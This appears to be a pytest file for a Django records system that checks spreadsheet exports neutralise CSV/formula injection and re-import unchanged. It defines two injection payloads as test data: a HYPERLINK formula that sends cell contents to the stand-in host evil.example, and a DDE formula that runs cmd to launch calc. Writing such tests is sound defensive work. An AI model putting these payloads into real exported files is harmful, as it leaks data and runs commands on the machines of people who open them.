"""A value typed by a firm never becomes a live formula in anybody's spreadsheet (CSV/formula injection), and the
guard does not change the data: an export read back imports the same text (config/spreadsheet.py)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from config.spreadsheet import csv_value, unguard
from projects.models import Project, Record, Tender
from tests.review.builders import valid_record
from tests.transfer.test_records_import import delete_all, snapshot
from transfer import record_rows as rr
from transfer.book import Mode
from transfer.records import records_importer

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
EVIL_DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _firm_a_registered_in_guangxi(firm_a):
    firm_a.region_id = "450100"
    firm_a.save(update_fields=["region"])


@pytest.fixture
def evil_record(firm_a):
    record = valid_record(firm_a)
    Project.objects.filter(pk=record.project_id).update(prj_name=EVIL)
    Tender.objects.filter(record=record).update(tender_prj_name=EVIL_DDE)
    return record


def _formulas(data: bytes) -> list[str]:
    """Every cell of every sheet that Excel would compute (type f), read from the file's XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_csv_cells_starting_like_a_formula_get_the_text_marker_and_lose_it_when_read():
    for text in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        assert csv_value(text) == "'" + text and unguard(csv_value(text)) == text
    for text in ("-5", "+8677112345678", "12", "南宁市", "", None, 3):
        assert csv_value(text) == text
    assert unguard("'abc") == "'abc"  # an apostrophe before ordinary text is the text's own


def test_the_records_xlsx_export_holds_no_formula_and_imports_back_unchanged(evil_record, provincial_staff):
    before = snapshot()
    out = io.BytesIO()
    rr.write_xlsx(rr.export_queryset(Record.visible_to(provincial_staff)), out)
    assert _formulas(out.getvalue()) == []
    values = {
        c.value for row in load_workbook(io.BytesIO(out.getvalue()), read_only=True)["业绩"].iter_rows() for c in row
    }
    assert EVIL in values and EVIL_DDE in values
    from transfer.files import read_bytes

    book = read_bytes(out.getvalue(), sheets=rr.sheets(), name="业绩.xlsx")
    delete_all()
    assert records_importer.run(book, user=provincial_staff, mode=Mode.ALL).problems == []
    assert snapshot() == before


def test_the_records_csv_export_marks_formulas_as_text_and_imports_back_unchanged(evil_record, provincial_staff):
    before = snapshot()
    out = io.BytesIO()
    rr.write_csv_zip(rr.export_queryset(Record.visible_to(provincial_staff)), out, encoding="gbk")
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        text = archive.read("业绩.csv").decode("gbk")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and "'=cmd|" in text
    book = rr.book_from_csv_zip(out.getvalue())
    delete_all()
    assert records_importer.run(book, user=provincial_staff, mode=Mode.ALL).problems == []
    assert snapshot() == before


def test_every_admin_list_export_writes_a_firms_formula_as_text(client, evil_record, provincial_staff):
    client.force_login(provincial_staff)
    answer = client.get(reverse("admin:changelist_export", args=["projects", "project"]))
    assert answer.status_code == 200
    data = b"".join(answer.streaming_content) if answer.streaming else answer.content
    assert _formulas(data) == []
    cells = {c.value for row in load_workbook(io.BytesIO(data), read_only=True).worksheets[0].iter_rows() for c in row}
    assert EVIL in cells
